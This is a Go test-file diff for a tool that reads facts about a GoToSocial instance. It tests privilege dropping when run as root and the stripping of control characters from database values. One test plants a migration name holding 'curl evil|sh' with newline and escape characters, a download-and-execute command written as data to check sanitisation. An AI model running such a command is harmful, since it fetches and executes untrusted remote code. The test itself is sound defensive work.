@@ -100,6 +100,7 @@ func TestFactsTellTheInstance(t *testing.T) {
 	if err := os.Chmod(binary, 0o755); err != nil {
 		t.Fatal(err)
 	}
+	belongToNobody(t, dir)
 	i := openInstance(t, dir, instance.Options{Binary: binary})
 	want := manifest.Facts{Engine: "sqlite", GoToSocial: "0.20.0-rc1", Migration: "20250715095446", Accounts: 2, Statuses: 2}
 	if got := begin(t, i).Facts(); got != want {
@@ -107,6 +108,51 @@ func TestFactsTellTheInstance(t *testing.T) {
 	}
 	if i.Domain() != "social.example.org" {
 		t.Error(i.Domain())
+	}
+}
+
+// belongToNobody gives the database to a user that isn't root, as on a server.
+func belongToNobody(t *testing.T, dir string) {
+	t.Helper()
+	if os.Geteuid() != 0 {
+		return
+	}
+	for _, err := range []error{os.Chmod(filepath.Dir(dir), 0o755), os.Chmod(dir, 0o755), os.Chown(filepath.Join(dir, "sqlite.db"), 65534, 65534)} {
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func TestRootRunsTheServersBinaryAsTheDatabasesOwnerOrNotAtAll(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root")
+	}
+	dir := small(t, "WAL")
+	write(t, dir, "gotosocial", "#!/bin/sh\necho version 1.2.$(id -u)\n")
+	binary := filepath.Join(dir, "gotosocial")
+	if err := os.Chmod(binary, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	i := openInstance(t, dir, instance.Options{Binary: binary})
+	if got := i.Version(t.Context()); got != "" {
+		t.Errorf("a database of root's: ran as %s", got)
+	}
+	write(t, dir, "gotosocial", "#!/bin/sh\necho version 1.2.$(id -u)\n")
+	belongToNobody(t, dir)
+	if got := i.Version(t.Context()); got != "1.2.65534" {
+		t.Errorf("ran as %q", got)
+	}
+}
+
+func TestFactsHoldNoControlCharacters(t *testing.T) {
+	dir := small(t, "WAL")
+	db := openSQL(t, filepath.Join(dir, "sqlite.db"))
+	if _, err := db.Exec("INSERT INTO bun_migrations (id, name) VALUES (999999, 'x' || char(10) || 'curl evil|sh' || char(27))"); err != nil {
+		t.Fatal(err)
+	}
+	if got := begin(t, openInstance(t, dir, instance.Options{})).Facts().Migration; got != "xcurl evil|sh" {
+		t.Errorf("%q", got)
 	}
 }
 
